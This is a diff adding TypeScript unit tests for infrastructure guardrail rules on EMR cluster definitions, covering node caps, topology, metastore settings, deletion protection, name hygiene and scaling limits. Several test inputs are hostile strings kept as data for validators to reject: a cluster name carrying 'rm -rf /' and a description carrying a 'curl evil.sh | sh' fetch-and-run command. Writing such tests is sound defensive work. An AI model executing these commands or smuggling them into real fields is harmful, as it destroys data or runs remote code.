@@ -1,0 +1,270 @@
+/**
+ * Unit tests of every pure rule: a compliant case, numbered non-compliant cases (one change each), preview
+ * unknowns, malformed input, and every threshold at and above its limit. The rules never throw.
+ */
+import { ALL_RULES, ruleContext, runRule, UNKNOWN, type ClusterRule, type GuardrailLimits, type Outcome } from "../../policies/rules";
+import * as capacity from "../../policies/rules/capacity";
+import * as hygiene from "../../policies/rules/hygiene";
+import * as metastore from "../../policies/rules/metastore";
+import { deletionProtection } from "../../policies/rules/protection";
+import * as topology from "../../policies/rules/topology";
+import { devClusterProps, haClusterProps, metastoreItem, nodeGroupProps } from "../helpers/cluster-props";
+
+type Props = Record<string, any>;
+
+const run = (rule: ClusterRule, props: unknown, limits?: Partial<GuardrailLimits>, stackName = "dev"): Outcome => runRule(rule, props, ruleContext(limits, { stackName }));
+const withGroup = (props: Props, i: number, change: Props): Props => ({ ...props, nodeGroups: props.nodeGroups.map((g: Props, k: number) => (k === i ? { ...g, ...change } : g)) });
+const addGroup = (props: Props, g: Props): Props => ({ ...props, nodeGroups: [...props.nodeGroups, g] });
+
+function expectCompliant(outcome: Outcome) {
+  expect(outcome).toEqual({ kind: "compliant" });
+}
+function expectViolation(outcome: Outcome, path: string, ...fragments: RegExp[]) {
+  if (outcome.kind !== "non-compliant") throw new Error(`expected a violation at ${path}, got ${JSON.stringify(outcome)}`);
+  const f = outcome.findings.find((x) => x.path === path);
+  if (!f) throw new Error(`no finding at ${path}: ${JSON.stringify(outcome.findings)}`);
+  for (const fr of fragments) expect(`${f.message} ${f.fix}`).toMatch(fr);
+  expect(f.fix.length).toBeGreaterThan(10);
+}
+function expectUnknown(outcome: Outcome, path: string) {
+  expect(outcome).toEqual({ kind: "unknown", paths: expect.arrayContaining([path]) });
+}
+
+describe("emr-node-group-creation-cap: every node group has at most 50 nodes at creation", () => {
+  const rule = capacity.nodeGroupCreationCap;
+  test("compliant: 50 nodes (at the cap)", () => expectCompliant(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 50 }))));
+  test("non-compliant 1: 51 nodes", () => expectViolation(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 51 })), "nodeGroups[1].nodeCount", /51 exceeds the 50-node cap/, /node group "core"/, /split into batches/));
+  test("threshold from config: 20", () => {
+    expectCompliant(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 20 }), { maxNodesPerGroupAtCreate: 20 }));
+    expectViolation(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 21 }), { maxNodesPerGroupAtCreate: 20 }), "nodeGroups[1].nodeCount", /20-node cap/);
+  });
+  test("unknown: a node count not known in preview", () => expectUnknown(run(rule, withGroup(haClusterProps(), 1, { nodeCount: UNKNOWN })), "nodeGroups[1].nodeCount"));
+  test("malformed: a node count that is not a number", () => expectViolation(run(rule, withGroup(haClusterProps(), 1, { nodeCount: "lots" })), "nodeGroups[1].nodeCount", /not a whole number/));
+  test("malformed: nodeGroups is not a list", () => expectViolation(run(rule, { ...haClusterProps(), nodeGroups: "x" }), "nodeGroups", /not a list/));
+  test("a violation in one group is reported even when another is unknown", () =>
+    expectViolation(run(rule, withGroup(withGroup(haClusterProps(), 1, { nodeCount: 60 }), 2, { nodeCount: UNKNOWN })), "nodeGroups[1].nodeCount", /60/));
+});
+
+describe("emr-node-group-size-ack: groups above 30 nodes carry an acknowledgement", () => {
+  const rule = capacity.nodeGroupSizeAck;
+  test("compliant: 30 nodes (at the threshold)", () => expectCompliant(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 30 }))));
+  test("non-compliant 1: 31 nodes without a tag", () => expectViolation(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 31 })), "nodeGroups[1].nodeCount", /31 nodes is above the 30-node threshold/, /emr-guard:ack-node-count: "31"/));
+  test("non-compliant 2: 40 nodes with an acknowledgement of 35", () => {
+    const props = { ...withGroup(haClusterProps(), 1, { nodeCount: 40 }), tags: { "emr-guard:ack-node-count": "35" } };
+    expectViolation(run(rule, props), "nodeGroups[1].nodeCount", /acknowledged: 35/);
+  });
+  test("compliant: 40 nodes acknowledged with 40", () => expectCompliant(run(rule, { ...withGroup(haClusterProps(), 1, { nodeCount: 40 }), tags: { "emr-guard:ack-node-count": "40" } })));
+  test("threshold from config: 10", () => expectViolation(run(rule, withGroup(haClusterProps(), 1, { nodeCount: 11 }), { nodeGroupAckThreshold: 10 }), "nodeGroups[1].nodeCount", /10-node threshold/));
+  test("unknown tags do not hide a violation", () => expectViolation(run(rule, { ...withGroup(haClusterProps(), 1, { nodeCount: 31 }), tags: UNKNOWN }), "nodeGroups[1].nodeCount", /31/));
+});
+
+describe("emr-cluster-total-nodes-ack: clusters above 100 nodes carry a cost acknowledgement", () => {
+  const rule = capacity.clusterTotalNodesAck;
+  const big = (extra: number) => addGroup(haClusterProps(), nodeGroupProps("TASK", "batch", extra));
+  test("compliant: 100 nodes in total", () => expectCompliant(run(rule, big(92))));
+  test("non-compliant 1: 101 nodes", () => expectViolation(run(rule, big(93)), "nodeGroups", /101 nodes in total, above the 100-node cost threshold/, /emr-guard:ack-cluster-nodes: "101"/));
+  test("compliant: 101 nodes acknowledged", () => expectCompliant(run(rule, { ...big(93), tags: { "emr-guard:ack-cluster-nodes": "120" } })));
+  test("threshold from config: 10", () => expectViolation(run(rule, haClusterProps(), { clusterNodesCostAckThreshold: 5 }), "nodeGroups", /8 nodes in total/));
+  test("unknown: a group's count unknown and the known ones below the threshold", () => expectUnknown(run(rule, withGroup(haClusterProps(), 1, { nodeCount: UNKNOWN })), "nodeGroups[1].nodeCount"));
+  test("a known total above the threshold is reported even with another group unknown", () =>
+    expectViolation(run(rule, addGroup(withGroup(haClusterProps(), 1, { nodeCount: UNKNOWN }), nodeGroupProps("TASK", "batch", 120))), "nodeGroups", /125 nodes/));
+});
+
+describe("emr-auto-scaling-max-capacity: MaxCapacity is at most 100", () => {
+  const rule = capacity.autoScalingMaxCapacity;
+  const cap = (maxCapacity: unknown) => withGroup(haClusterProps(), 2, { autoScalingPolicy: { constraints: { minCapacity: 2, maxCapacity } } });
+  test("compliant: 100", () => expectCompliant(run(rule, cap(100))));
+  test("non-compliant 1: 101", () => expectViolation(run(rule, cap(101)), "nodeGroups[2].autoScalingPolicy.constraints.maxCapacity", /MaxCapacity 101 exceeds the auto-scaling cap of 100/, /node group "task"/));
+  test("threshold from config: 50", () => expectViolation(run(rule, cap(60), { maxAutoScalingCapacity: 50 }), "nodeGroups[2].autoScalingPolicy.constraints.maxCapacity", /cap of 50/));
+  test("unknown", () => expectUnknown(run(rule, cap(UNKNOWN)), "nodeGroups[2].autoScalingPolicy.constraints.maxCapacity"));
+  test("not applicable without auto scaling", () => expect(run(rule, devClusterProps())).toEqual({ kind: "not-applicable" }));
+});
+
+describe("emr-subscription-duration-ack: subscriptions above 12 months carry an acknowledgement", () => {
+  const rule = capacity.subscriptionDurationAck;
+  const months = (paymentDuration: unknown) => ({ ...haClusterProps(), subscriptionConfig: { paymentDuration, paymentDurationUnit: "Month" } });
+  test("compliant: 12 months", () => expectCompliant(run(rule, months(12))));
+  test("non-compliant 1: 24 months", () => expectViolation(run(rule, months(24)), "subscriptionConfig.paymentDuration", /24-month subscription/, /emr-guard:ack-subscription-months: "24"/));
+  test("non-compliant 2: a node group's own 36-month subscription", () =>
+    expectViolation(run(rule, withGroup(haClusterProps(), 1, { subscriptionConfig: { paymentDuration: 36, paymentDurationUnit: "Month" } })), "nodeGroups[1].subscriptionConfig.paymentDuration", /36-month/));
+  test("compliant: 24 months acknowledged", () => expectCompliant(run(rule, { ...months(24), tags: { "emr-guard:ack-subscription-months": "24" } })));
+  test("threshold from config: 6", () => expectViolation(run(rule, months(12), { subscriptionMonthsAckThreshold: 6 }), "subscriptionConfig.paymentDuration", /longer than 6 months/));
+  test("unknown", () => expectUnknown(run(rule, months(UNKNOWN)), "subscriptionConfig.paymentDuration"));
+});
+
+describe("emr-deploy-mode-masters: one MASTER group, 3 nodes in HA, 1 in NORMAL", () => {
+  const rule = topology.deployModeMasters;
+  test("compliant: HA with 3", () => expectCompliant(run(rule, haClusterProps())));
+  test("compliant: NORMAL with 1", () => expectCompliant(run(rule, devClusterProps())));
+  test("non-compliant 1: HA with 1 MASTER node", () => expectViolation(run(rule, withGroup(haClusterProps(), 0, { nodeCount: 1 })), "nodeGroups[0].nodeCount", /HA mode needs 3 MASTER nodes/));
+  test("non-compliant 2: NORMAL with 3 MASTER nodes", () => expectViolation(run(rule, withGroup(devClusterProps(), 0, { nodeCount: 3 })), "nodeGroups[0].nodeCount", /NORMAL mode has 1/));
+  test("non-compliant 3: no MASTER group", () => expectViolation(run(rule, withGroup(devClusterProps(), 0, { nodeGroupType: "CORE" })), "nodeGroups", /0 MASTER groups/));
+  test("non-compliant 4: deployMode left out means NORMAL (the API default)", () => {
+    const { deployMode: _d, ...props } = haClusterProps();
+    expectViolation(run(rule, props), "nodeGroups[0].nodeCount", /NORMAL mode has 1/);
+  });
+  test("unknown: deployMode unknown", () => expectUnknown(run(rule, { ...haClusterProps(), deployMode: UNKNOWN }), "deployMode"));
+});
+
+describe("emr-ha-zookeeper: HA clusters install ZOOKEEPER", () => {
+  const rule = topology.haZookeeper;
+  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
+  test("non-compliant 1: HA without ZOOKEEPER", () => expectViolation(run(rule, { ...haClusterProps(), applications: ["HADOOP-COMMON", "HIVE"] }), "applications", /without ZOOKEEPER/, /add "ZOOKEEPER"/));
+  test("not applicable: NORMAL", () => expect(run(rule, devClusterProps())).toEqual({ kind: "not-applicable" }));
+  test("unknown: applications unknown", () => expectUnknown(run(rule, { ...haClusterProps(), applications: UNKNOWN }), "applications"));
+});
+
+describe("emr-node-group-roles: MASTER-EXTEND only in HA, GATEWAY only where accepted", () => {
+  const rule = topology.nodeGroupRoles;
+  test("compliant: MASTER-EXTEND in HA", () => expectCompliant(run(rule, addGroup(haClusterProps(), nodeGroupProps("MASTER-EXTEND", "mx", 2)))));
+  test("non-compliant 1: MASTER-EXTEND in NORMAL", () => expectViolation(run(rule, addGroup(devClusterProps(), nodeGroupProps("MASTER-EXTEND", "mx", 1))), "nodeGroups[2].nodeGroupType", /only in HA clusters/));
+  test("non-compliant 2: GATEWAY in DATALAKE", () => expectViolation(run(rule, addGroup(devClusterProps(), nodeGroupProps("GATEWAY", "gw", 1))), "nodeGroups[2].nodeGroupType", /DATALAKE clusters do not accept/));
+  test("compliant: GATEWAY in DATAFLOW", () => expectCompliant(run(rule, { ...addGroup(devClusterProps(), nodeGroupProps("GATEWAY", "gw", 1)), clusterType: "DATAFLOW" })));
+  test("unknown: a group type unknown", () => expectUnknown(run(rule, withGroup(devClusterProps(), 1, { nodeGroupType: UNKNOWN })), "nodeGroups[1].nodeGroupType"));
+});
+
+describe("emr-spot-and-auto-scaling-task-only: Spot and auto scaling only on TASK groups", () => {
+  const rule = topology.taskOnlyFeatures;
+  test("compliant: Spot and auto scaling on TASK", () => expectCompliant(run(rule, haClusterProps())));
+  test("non-compliant 1: Spot on CORE", () => expectViolation(run(rule, withGroup(haClusterProps(), 1, { spotStrategy: "SpotWithPriceLimit" })), "nodeGroups[1].spotStrategy", /CORE with spotStrategy SpotWithPriceLimit/));
+  test("non-compliant 2: auto scaling on CORE", () => expectViolation(run(rule, withGroup(haClusterProps(), 1, { autoScalingPolicy: { constraints: { maxCapacity: 5 } } })), "nodeGroups[1].autoScalingPolicy", /only TASK groups scale/));
+  test("compliant: NoSpot on CORE", () => expectCompliant(run(rule, withGroup(haClusterProps(), 1, { spotStrategy: "NoSpot" }))));
+});
+
+describe("emr-vswitch-ids: every node group lists its VSwitchIds", () => {
+  const rule = topology.vswitchIdsRequired;
+  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
+  test("non-compliant 1: an empty list", () => expectViolation(run(rule, withGroup(haClusterProps(), 2, { vswitchIds: [] })), "nodeGroups[2].vswitchIds", /VSwitchIds is not valid/, /vsw-bp1example/));
+  test("non-compliant 2: missing", () => expectViolation(run(rule, withGroup(haClusterProps(), 0, { vswitchIds: undefined })), "nodeGroups[0].vswitchIds", /no vswitchIds/));
+  test("unknown: VSwitch IDs from resources created in the stack", () => expectUnknown(run(rule, withGroup(haClusterProps(), 0, { vswitchIds: UNKNOWN })), "nodeGroups[0].vswitchIds"));
+});
+
+describe("emr-application-exclusion: at most one of each exclusive set", () => {
+  const rule = topology.applicationExclusion;
+  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
+  test.each([
+    ["SPARK2", "SPARK3"],
+    ["HDFS", "OSS-HDFS"],
+    ["STARROCKS2", "STARROCKS3"],
+  ])("non-compliant: %s with %s", (a, b) => expectViolation(run(rule, { ...haClusterProps(), applications: ["HADOOP-COMMON", a, b] }), "applications", new RegExp(`${a} and ${b} exclude each other`)));
+  test("lower-case names are the same applications", () => expectViolation(run(rule, { ...haClusterProps(), applications: ["spark2", "SPARK3"] }), "applications", /SPARK2 and SPARK3/));
+  test("malformed: applications not a list", () => expectViolation(run(rule, { ...haClusterProps(), applications: "HDFS" }), "applications", /not a list/));
+});
+
+describe("emr-hive-metastore-type: HIVE sets hive.metastore.type", () => {
+  const rule = metastore.hiveMetastoreType;
+  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
+  test("non-compliant 1: the item is missing", () => expectViolation(run(rule, { ...haClusterProps(), applicationConfigs: [] }), "applicationConfigs", /ApplicationConfigs missing item/));
+  test("non-compliant 2: an unknown value (RDS is not a type)", () =>
+    expectViolation(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", "RDS")] }), "applicationConfigs[0].configItemValue", /EMR knows LOCAL, USER_RDS, DLF/));
+  test("not applicable without HIVE", () => expect(run(rule, { ...haClusterProps(), applications: ["HADOOP-COMMON", "HDFS"] })).toEqual({ kind: "not-applicable" }));
+  test("unknown: applicationConfigs unknown", () => expectUnknown(run(rule, { ...haClusterProps(), applicationConfigs: UNKNOWN }), "applicationConfigs"));
+  test("unknown: the value unknown", () => expectUnknown(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", UNKNOWN as never)] }), "applicationConfigs[0].configItemValue"));
+});
+
+describe("emr-spark-metastore-matches-hive: Spark's hive.metastore.type equals HIVE's", () => {
+  const rule = metastore.sparkMetastoreMatchesHive;
+  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
+  test("non-compliant 1: different values", () =>
+    expectViolation(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", "DLF"), metastoreItem("SPARK3", "hive-site.xml", "USER_RDS")] }), "applicationConfigs[1].configItemValue", /SPARK3 uses metastore USER_RDS but HIVE uses DLF/));
+  test("non-compliant 2: Spark's item missing", () =>
+    expectViolation(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", "DLF")] }), "applicationConfigs", /SPARK3 is installed but hive.metastore.type is not set/));
+  test("unknown: HIVE's value unknown", () =>
+    expectUnknown(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", UNKNOWN as never), metastoreItem("SPARK3", "hive-site.xml", "DLF")] }), "applicationConfigs[1].configItemValue"));
+});
+
+describe("emr-ha-external-metastore: HA + HIVE uses USER_RDS or DLF", () => {
+  const rule = metastore.haExternalMetastore;
+  test.each(["USER_RDS", "DLF"])("compliant: %s", (type) => expectCompliant(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", type)] })));
+  test("non-compliant 1: LOCAL", () =>
+    expectViolation(run(rule, { ...haClusterProps(), applicationConfigs: [metastoreItem("HIVE", "hivemetastore-site.xml", "LOCAL")] }), "applicationConfigs[0].configItemValue", /HA cluster with HIVE uses hive.metastore.type LOCAL/, /USER_RDS/));
+  test("not applicable: NORMAL with LOCAL", () => expect(run(rule, devClusterProps())).toEqual({ kind: "not-applicable" }));
+});
+
+describe("emr-deletion-protection: deletionProtection is true", () => {
+  const rule = deletionProtection;
+  test("compliant", () => expectCompliant(run(rule, haClusterProps())));
+  test("non-compliant 1: false", () => expectViolation(run(rule, { ...haClusterProps(), deletionProtection: false }), "deletionProtection", /deletionProtection is false/));
+  test("non-compliant 2: not set (the API default is false)", () => expectViolation(run(rule, { ...haClusterProps(), deletionProtection: undefined }), "deletionProtection", /not set/));
+  test("unknown", () => expectUnknown(run(rule, { ...haClusterProps(), deletionProtection: UNKNOWN }), "deletionProtection"));
+});
+
+describe("emr-names-and-descriptions: names use letters, digits, _ and -", () => {
+  const rule = hygiene.namesAndDescriptions;
+  test("compliant, Chinese included", () => expectCompliant(run(rule, { ...haClusterProps(), clusterName: "数据湖-prod_1" })));
+  test("non-compliant 1: shell metacharacters in the cluster name", () => expectViolation(run(rule, { ...haClusterProps(), clusterName: "lake$(rm -rf /)" }), "clusterName", /outside letters, digits/));
+  test("non-compliant 2: a cluster name over 64 characters", () => expectViolation(run(rule, { ...haClusterProps(), clusterName: "a".repeat(65) }), "clusterName", /65 characters; at most 64/));
+  test("non-compliant 3: a node group name with a space", () => expectViolation(run(rule, withGroup(haClusterProps(), 1, { nodeGroupName: "core nodes" })), "nodeGroups[1].nodeGroupName", /node group name/));
+  test("non-compliant 4: a name starting with a digit", () => expectViolation(run(rule, { ...haClusterProps(), clusterName: "1lake" }), "clusterName", /starting with a letter/));
+  test("unknown: the name comes from another resource", () => expectUnknown(run(rule, { ...haClusterProps(), clusterName: UNKNOWN }), "clusterName"));
+});
+
+describe("emr-bootstrap-scripts-oss: scripts only from oss://", () => {
+  const rule = hygiene.bootstrapScriptsFromOss;
+  const script = (scriptPath: unknown) => ({ ...haClusterProps(), bootstrapScripts: [{ scriptName: "init", scriptPath }] });
+  test("compliant", () => expectCompliant(run(rule, script("oss://my-bucket/bootstrap/init.sh"))));
+  test.each(["https://example.com/init.sh", "http://10.0.0.1/x.sh", "/tmp/init.sh", "oss://"])("non-compliant: %s", (path) =>
+    expectViolation(run(rule, script(path)), "bootstrapScripts[0].scriptPath", /only from your own OSS bucket/, /oss:\/\/my-bucket/));
+  test("unknown", () => expectUnknown(run(rule, script(UNKNOWN)), "bootstrapScripts[0].scriptPath"));
+  test("not applicable without scripts", () => expect(run(rule, devClusterProps())).toEqual({ kind: "not-applicable" }));
+});
+
+describe("emr-production-kerberos / emr-production-ha: production stacks use KERBEROS and HA", () => {
+  test("compliant on prod", () => {
+    expectCompliant(run(hygiene.productionKerberos, haClusterProps(), undefined, "prod"));
+    expectCompliant(run(hygiene.productionHa, haClusterProps(), undefined, "prod"));
+  });
+  test("non-compliant 1: NORMAL security mode on prod", () => expectViolation(run(hygiene.productionKerberos, { ...haClusterProps(), securityMode: "NORMAL" }, undefined, "prod"), "securityMode", /production stack "prod"/));
+  test("non-compliant 2: NORMAL deploy mode on payments-prod", () => expectViolation(run(hygiene.productionHa, devClusterProps(), undefined, "payments-prod"), "deployMode", /master failover/));
+  test("not applicable on dev", () => expect(run(hygiene.productionKerberos, devClusterProps(), undefined, "dev")).toEqual({ kind: "not-applicable" }));
+  test("production patterns from config", () => {
+    const ctx = ruleContext({}, { stackName: "live", productionStacks: ["live"] });
+    expect(runRule(hygiene.productionHa, devClusterProps(), ctx).kind).toBe("non-compliant");
+  });
+});
+
+describe("text validators reused by the API client", () => {
+  test("descriptions refuse shell metacharacters", () => {
+    expect(hygiene.checkDescription("Nightly ETL, finance")).toEqual([]);
+    expect(hygiene.checkDescription("x; curl evil.sh | sh")[0]).toMatchObject({ path: "description", message: expect.stringContaining("metacharacters") });
+  });
+  test("root passwords are 8-30 letters and digits", () => {
+    expect(hygiene.checkRootPassword("Abc12345")).toEqual([]);
+    expect(hygiene.checkRootPassword("Abc$12345")).toHaveLength(1);
+    expect(hygiene.checkRootPassword("short1")).toHaveLength(1);
+  });
+});
+
+describe("checkScaleChange: the scaling gate's rule (live count vs planned)", () => {
+  const limits = ruleContext().limits;
+  const change = (groupType: string, liveCount: number, plannedCount: number, tags: Props = {}, paymentType?: string) =>
+    capacity.checkScaleChange({ groupName: "g", groupType, liveCount, plannedCount, tags, limits, paymentType });
+  test("no change, small steps: nothing to say", () => {
+    expect(change("TASK", 10, 10)).toEqual([]);
+    expect(change("TASK", 10, 30)).toEqual([]);
+    expect(change("TASK", 30, 20)).toEqual([]);
+  });
+  test("a scale-out above 20 needs an acknowledgement", () => {
+    expect(change("CORE", 10, 31)[0].message).toMatch(/scale-out of 21 nodes/);
+    expect(change("CORE", 10, 31, { "emr-guard:ack-scale-out": "21" })).toEqual([]);
+  });
+  test("a scale-out above 50 is stepped", () => expect(change("TASK", 0, 120)[0].fix).toBe("step it: 0 -> 50 -> 100 -> 120, one update each"));
+  test("a CORE group is never scaled in", () => expect(change("CORE", 6, 5)[0].message).toMatch(/never scaled in/));
+  test("a TASK scale-in above 10 is stepped", () => expect(change("TASK", 80, 60)[0].fix).toBe("step it: 80 -> 70 -> 60, one update each, at least 120 s apart"));
+  test("a TASK group to 0 needs an acknowledgement", () => {
+    expect(change("TASK", 5, 0)[0].message).toMatch(/to 0 nodes/);
+    expect(change("TASK", 5, 0, { "emr-guard:ack-task-to-zero": "true" })).toEqual([]);
+  });
+  test("Subscription nodes are never released", () => expect(change("TASK", 5, 4, {}, "Subscription")[0].message).toMatch(/Subscription/));
+});
+
+describe("every rule survives malformed input without throwing", () => {
+  const inputs: unknown[] = [undefined, null, 42, "cluster", [], { nodeGroups: [null, 3, "x", { nodeCount: null }] }, { applications: [null, 1] }, { applicationConfigs: [null, { configItemKey: 5 }] }, { nodeAttributes: "sg" }, { tags: 7 }, UNKNOWN];
+  test.each(ALL_RULES.map((r) => [r.name, r] as const))("%s", (_name, rule) => {
+    for (const input of inputs) {
+      const outcome = run(rule, input);
+      expect(["compliant", "non-compliant", "not-applicable", "unknown"]).toContain(outcome.kind);
+      if (outcome.kind === "non-compliant") expect(outcome.findings.every((f) => f.path !== "(rule)")).toBe(true);
+    }
+  });
+});
